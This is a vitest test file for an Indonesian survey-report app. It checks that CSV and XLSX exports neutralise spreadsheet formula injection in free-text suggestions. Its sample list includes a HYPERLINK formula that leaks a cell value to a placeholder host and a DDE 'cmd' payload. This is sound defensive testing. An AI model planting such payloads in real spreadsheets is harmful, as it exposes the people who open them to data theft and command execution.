import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { loadLanguage } from '$lib/i18n/table';
import { parseCsv } from '$lib/import/table/csv';
import { FORMULA_START } from '$lib/import/table/xlsx-write';
import { skmFile, skmCsv } from '$lib/report/files';
import { safeCsvText, withoutFormulaNeutralizer } from '$lib/import/table/csv-export';
import { xlsxWorkbook, csvTable } from '$lib/report/sheet';
import { buildSkmUnitReport } from '$lib/report/skm-model';
import { readSheet, xmlStyles, xmlSheet } from '../../fixtures/read-xlsx';
import { CREATED, inputSkm } from './demo';

// The app loads the whole Indonesian table before a report is built (state/laporan.ts).
await loadLanguage('id');

/** What spreadsheet users have seen attackers type into free-text fields. */
const ATTACKS = [
	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
	'+62 812 (nomor saya)',
	'-2+3',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'  =1+1',
	'＝1+1'
];

const readCsv = (text: string) => parseCsv(text).rows.map((r) => r.cells);

describe('formula injection from free text', () => {
	it('gets an apostrophe in CSV, so Excel shows the text instead of running it', () => {
		for (const s of ATTACKS) {
			expect(safeCsvText(s)).toBe(`'${s}`);
			expect(FORMULA_START.test(safeCsvText(s))).toBe(false);
		}
		expect(safeCsvText('Antrean lama - mohon ditambah')).toBe('Antrean lama - mohon ditambah');
	});

	it('stays text in XLSX, unchanged, with the quote prefix Excel keeps when the cell is edited', () => {
		const content = xlsxWorkbook([
			{ nama: 'Saran', kolom: ['saran'], baris: ATTACKS.map((s) => [s]) }
		]);
		const sheet = readSheet(content, 'Saran');
		expect(sheet.rows.map((r) => r.cells[0])).toEqual(ATTACKS);
		const [xml] = xmlSheet(content);
		expect(xml).not.toMatch(/<f[\s>]/);
		const gaya = /s="(\d+)"[^>]*t="inlineStr"/.exec(xml!.split('<row r="2">')[1]!)?.[1];
		const xfs = xmlStyles(content)
			.split('<cellXfs')[1]!
			.match(/<xf [^>]*\/>/g)!;
		expect(xfs[Number(gaya)]).toContain('quotePrefix="1"');
	});

	it('is neutralised in a real report: a citizen’s saran that starts with = or @', () => {
		const input = inputSkm('2026-TW2');
		const target = input.responses.find((r) => r.saran)!;
		const responses = input.responses.map((r, i) =>
			r.unitId === target.unitId && i % 2 === 0 ? { ...r, saran: ATTACKS[i % ATTACKS.length] } : r
		);
		const report = buildSkmUnitReport({ ...input, responses }, target.unitId)!;
		const ditulis = report.unit[0]!.saran.map((s) => s.teks);
		expect(ditulis.some((s) => FORMULA_START.test(s))).toBe(true);

		const xlsx = skmFile(report, 'xlsx', { locale: 'id', dibuat: CREATED }).isi;
		const saran = readSheet(xlsx, 'Saran');
		expect(saran.rows.map((r) => r.cells[saran.kolom('Saran')])).toEqual(ditulis);
		for (const xml of xmlSheet(xlsx)) expect(xml).not.toMatch(/<f[\s>]/);
	});

	it('any text survives the CSV round trip and never starts a formula', () => {
		fc.assert(
			fc.property(
				fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
				(text) => {
					const csv = csvTable({
						nama: 'x',
						kolom: ['a', 'b'],
						baris: text.map((t) => [t, 'akhir'])
					});
					const row = readCsv(csv);
					expect(row).toHaveLength(text.length);
					row.forEach((cells, i) => {
						const asli = text[i]!;
						expect(FORMULA_START.test(cells[0]!)).toBe(false);
						// Formula text gets one apostrophe, and so does text that already starts with
						// apostrophes before formula text ("'-" is written "''-"), so that the import reads
						// back exactly what was written.
						expect(cells[0]).toBe(safeCsvText(asli));
						expect(withoutFormulaNeutralizer(cells[0]!)).toBe(asli);
					});
				}
			)
		);
	});

	it('any text survives the XLSX round trip unchanged, never as a formula', () => {
		fc.assert(
			fc.property(
				fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
				(text) => {
					const content = xlsxWorkbook([
						{ nama: 'x', kolom: ['a', 'b'], baris: text.map((t) => [t, 'akhir']) }
					]);
					const sheet = readSheet(content, 'x');
					expect(sheet.rows.map((r) => r.cells[0])).toEqual(text.map((t) => t));
					expect(xmlSheet(content)[0]).not.toMatch(/<f[\s>]/);
				}
			),
			{ numRuns: 60 }
		);
	});

	it('leaves numbers as numbers, negative ones too', () => {
		const csv = csvTable({
			nama: 'x',
			kolom: ['gerak', 'indeks'],
			baris: [
				[
					{ angka: -2, format: 'bulat' },
					{ angka: 84.27, format: 'desimal2' }
				]
			]
		});
		expect(readCsv(csv)).toEqual([['-2', '84,27']]);
		const content = skmCsv(buildSkmUnitReport(inputSkm('2026-TW2'), 'demo-dinkes')!, 'id').isi;
		expect(new TextDecoder().decode(content)).not.toMatch(/;'-?\d/);
	});
});
